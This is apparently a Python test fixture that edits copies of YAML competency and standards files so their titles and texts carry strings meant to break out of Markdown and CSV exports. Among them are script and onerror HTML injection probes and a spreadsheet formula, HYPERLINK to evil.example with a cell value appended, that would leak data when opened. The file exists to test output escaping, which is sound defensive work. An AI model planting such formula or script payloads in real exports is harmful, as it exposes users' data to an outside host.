"""A copy of the data whose texts try to break out of Markdown and CSV: for --data-dir tests."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import yaml

from .conftest import unsealed_copy

# Markdown: raw HTML, a code span, emphasis, a backslash, a table pipe, a link, an entity, a
# strikethrough, an autolink, and (at the start) a heading.
TITLE = (
    "# <script>alert(1)</script> `code` *star* _under_ back\\slash a|b [x](y) &amp; ~~gone~~ "
    "<https://evil.example/> **bold**"
)
TEXT = "1. not a list: <img src=x onerror=alert(1)> \\`tick\\` [link][ref] ![img](y)"
SUBITEM = "- not a bullet <b>b</b> | cell"
STATEMENT = "> not a quote\n=== not a heading\n    not code"
ELEMENT = "+ not a bullet #not-a-heading ##"
# CSV: what a spreadsheet would run as a formula.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
# (A leading tab or carriage return cannot come from the data: the loader strips names.)
FORMULA_CELLS = {"+": "+1+2", "-": "-2+3", "@": "@SUM(A1:A9)", "=": "=1+1"}


def _edit(path: Path, change: Any) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000), encoding="utf-8")


def _find(items: list[dict[str, Any]], code: str) -> dict[str, Any]:
    return next(x for x in items if x["code"] == code)


def hostile_data(tmp_path: Path) -> Path:
    """Data in which VVC.3 / VVC.3.a and Standard 1 / 1b / 1d carry the strings above."""
    target = tmp_path / "hostile-data"
    unsealed_copy(target)

    def competencies(data: dict[str, Any]) -> None:
        comp = next(c for d in data["items"] for c in d["items"] if c["code"] == "VVC.3")
        comp["title"] = TITLE
        ind = _find(comp["items"], "VVC.3.a")
        ind["text"] = TEXT
        ind["parts"][0]["text"] = SUBITEM

    def standards(data: dict[str, Any]) -> None:
        standard = _find(data["items"], "1")
        standard["text"] = STATEMENT
        _find(standard["items"], "1b")["title"] = FORMULA
        _find(standard["items"], "1b")["text"] = TITLE
        _find(standard["items"], "1d")["parts"][0]["text"] = ELEMENT
        for (_, value), sid in zip(FORMULA_CELLS.items(), ("1a", "1c", "1e", "2a"), strict=True):
            indicators = next(s for s in data["items"] if sid.startswith(s["code"]))["items"]
            _find(indicators, sid)["title"] = value

    _edit(target / "competencies.yaml", competencies)
    _edit(target / "standards.yaml", standards)
    return target
